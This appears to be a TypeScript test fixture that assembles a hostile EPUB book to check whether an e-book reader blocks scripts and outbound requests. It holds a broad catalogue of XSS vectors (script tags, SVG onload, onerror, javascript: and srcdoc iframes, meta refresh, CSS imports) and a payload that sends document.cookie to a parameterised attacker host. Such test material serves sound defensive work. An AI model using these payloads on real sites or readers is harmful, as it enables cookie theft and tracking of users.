import { buildEpub, navigation } from '../fixtures/epub.ts'
import { putBook } from './bookshelf.ts'

/** What a script of the book does once it runs: reads data, leaves a mark, sends a request and navigates away. */
function payload(evil: string, way: string): string {
  return [
    `new Image().src='${evil}/ran-${way}?'+encodeURIComponent(document.cookie)`,
    `try{localStorage.setItem('stolen','${way}')}catch(e){}`,
    `try{parent.stolen='${way}'}catch(e){}`,
    `try{fetch('${evil}/fetched-${way}')}catch(e){}`,
  ].join(';')
}

/** Ways to run a script without interaction. Each is well-formed, so that all fit in one document. */
function scriptAttempts(evil: string): readonly string[] {
  const run = (way: string) => payload(evil, way).replaceAll('&', '&amp;').replaceAll('"', '&quot;')
  const inside = (way: string) => `&lt;script&gt;${run(way)}&lt;/script&gt;`
  return [
    `<script>${run('script')}</script>`,
    '<script src="run.js"></script>',
    `<script src="${evil}/own.js"></script>`,
    '<script type="module" src="run.js"></script>',
    `<svg xmlns="http://www.w3.org/2000/svg"><script>${run('svg-script')}</script></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${run('svg-onload')}"><rect width="1" height="1"/></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><animate attributeName="x" begin="0s" dur="1s" onbegin="${run('animate')}"/></svg>`,
    `<img src="nowhere.png" alt="" onerror="${run('onerror')}"/>`,
    `<details open="open" ontoggle="${run('ontoggle')}"><summary>x</summary></details>`,
    `<a href="#x" tabindex="1" autofocus="autofocus" onfocus="${run('onfocus')}">x</a>`,
    `<p style="animation: a 1s" onanimationstart="${run('animation')}">x</p>`,
    `<iframe srcdoc="${inside('srcdoc')}"></iframe>`,
    `<iframe src="javascript:${run('iframe')}"></iframe>`,
    '<iframe src="trap.svg"></iframe>',
    '<object data="trap.svg" type="image/svg+xml"></object>',
    '<embed src="trap.svg" type="image/svg+xml"/>',
  ]
}

/** Ways to send requests without scripts. */
function requestAttempts(evil: string): readonly string[] {
  return [
    `<img src="${evil}/img" alt=""/>`,
    `<img src="trap.svg" alt=""/>`,
    `<img srcset="${evil}/srcset 1x" alt=""/>`,
    `<picture><source srcset="${evil}/picture"/><img alt="" src="nowhere.png"/></picture>`,
    `<iframe src="${evil}/iframe"></iframe>`,
    `<object data="${evil}/object"></object>`,
    `<embed src="${evil}/embed"/>`,
    `<video src="${evil}/video" poster="${evil}/poster" autoplay="autoplay"><source src="${evil}/source"/></video>`,
    `<audio src="${evil}/audio" autoplay="autoplay"></audio>`,
    `<input type="image" src="${evil}/input" alt=""/>`,
    `<table background="${evil}/table"><tr><td>x</td></tr></table>`,
    `<p style="background: url(${evil}/inline)">x</p>`,
    `<p style="background-image: image-set('${evil}/image-set' 1x)">x</p>`,
    `<p class="list" style="list-style: url(${evil}/list)">x</p>`,
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image href="${evil}/svg-image" width="9" height="9"/><image xlink:href="${evil}/xlink" width="9" height="9"/></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><use href="${evil}/use#a"/><rect width="9" height="9" fill="url(${evil}/fill#p)"/></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><style>rect { mask: url(${evil}/svg-style) }</style><rect width="9" height="9"/></svg>`,
  ]
}

/** Content of the head. Navigation to another site comes last, after all other attempts. */
function head(evil: string): string {
  return `<base href="${evil}/base/"/>
<link rel="stylesheet" href="${evil}/link.css"/><link rel="icon" href="${evil}/icon"/>
<link rel="preload" as="image" href="${evil}/preload"/><link rel="prefetch" href="${evil}/prefetch"/>
<link rel="modulepreload" href="${evil}/module.js"/><link rel="prerender" href="${evil}/prerender"/>
<style>@import "${evil}/import.css"; @import url(${evil}/import-url.css);
@font-face { font-family: trap; src: url(${evil}/font.woff2) } body { font-family: trap, serif }
h1 { background: url(${evil}/style) } h1::before { content: url(${evil}/content) } @keyframes a { to { opacity: 1 } }</style>
<meta http-equiv="refresh" content="1;url=${evil}/refresh"/>`
}

/** Content that needs a click. */
function clickTraps(evil: string): string {
  const run = (way: string) => payload(evil, way).replaceAll('&', '&amp;').replaceAll('"', '&quot;')
  return `<div style="text-align: center"><p><a href="javascript:${run('link')}">Press me</a></p>
<p><a href="data:text/html,&lt;script&gt;${run('data-link')}&lt;/script&gt;">Open me</a></p>
<p onclick="${run('onclick')}">Touch me</p>
<p><a href="${evil}/followed" ping="${evil}/ping" target="_top">Follow me</a></p>
<form action="${evil}/form" method="post"><p>Send <button formaction="${evil}/button">me</button></p></form>
<p>A note<a id="r" epub:type="noteref" href="#n">1</a></p></div>`
}

function document(evil: string, title: string): string {
  const traps = [...scriptAttempts(evil), ...requestAttempts(evil)].map((trap) => `<div>${trap}</div>`).join('\n')
  return `<?xml version="1.0" encoding="UTF-8"?>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><head><title>${title}</title>
<meta name="viewport" content="width=600, height=800"/><link rel="stylesheet" href="trap.css"/>${head(evil)}</head>
<body background="${evil}/body" onload="${payload(evil, 'onload').replaceAll('&', '&amp;')}"><h1>${title}</h1>${clickTraps(evil)}
${traps}
<aside epub:type="footnote" id="n"><p>A bad note.<img src="${evil}/note" alt="" onerror="${payload(evil, 'note').replaceAll('&', '&amp;')}"/></p></aside>
</body></html>`
}

/**
 * A document that tries to run scripts, reach its surroundings and send requests in every way a browser supports.
 * @param evil address of the site that it calls
 */
export function hostileDocument(evil: string): string {
  return document(evil, 'Flows')
}

/** A book of nothing else: as reflowable text, as fixed layout, and as SVG. */
export function putHostileBook(shelf: string, evil: string): void {
  const drawing = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="${payload(evil, 'drawing').replaceAll('&', '&amp;')}">
<script>${payload(evil, 'drawing-script').replaceAll('&', '&amp;')}</script><image href="${evil}/drawing" width="9" height="9"/></svg>`
  const book = buildEpub({
    bareMetadata: true,
    metadata: '<dc:title>The Trap</dc:title><dc:language>en</dc:language>',
    parts: [
      navigation('<li><a href="flows.xhtml">Flows</a></li><li><a href="stands.xhtml">Stands</a></li>'),
      { name: 'flows.xhtml', data: document(evil, 'Flows'), properties: 'scripted remote-resources' },
      { name: 'stands.xhtml', data: document(evil, 'Stands'), spineProperties: 'rendition:layout-pre-paginated' },
      { name: 'trap.svg', data: drawing, spine: true },
      { name: 'trap.css', data: `@import "${evil}/own.css"; h1 { cursor: url(${evil}/cursor), auto }` },
      { name: 'run.js', data: payload(evil, 'own-file') },
    ],
  })
  putBook(shelf, 'The Trap/The Trap.epub', book)
}
